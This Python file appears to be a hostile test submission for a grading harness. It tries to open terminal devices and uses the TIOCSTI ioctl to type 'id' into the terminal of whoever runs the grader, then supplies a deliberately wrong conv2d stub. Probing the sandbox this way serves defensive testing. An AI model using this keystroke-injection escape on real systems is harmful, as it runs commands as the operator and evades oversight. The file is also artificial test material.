"""Types commands into the terminal of whoever started the grader."""
# ruff: noqa

OUTCOME = ("wrong",)

import fcntl
import os
import pty

for name in ("/dev/tty", "/dev/pts/0", "/dev/console", "/dev/ptmx"):
    try:
        fd = os.open(name, os.O_RDWR)
        print("LEAK", name, fd)
    except OSError:
        pass
for fd in (0, 1, 2, 3):
    for character in b"id\n":
        try:
            fcntl.ioctl(fd, 0x5412, bytes([character]))
            print("LEAK typed into", fd)
        except OSError:
            pass
try:
    pty.openpty()
    print("LEAK pty")
except OSError:
    pass


def conv2d(x, weight, bias=None, stride=(1, 1), padding=(0, 0)):
    return 0
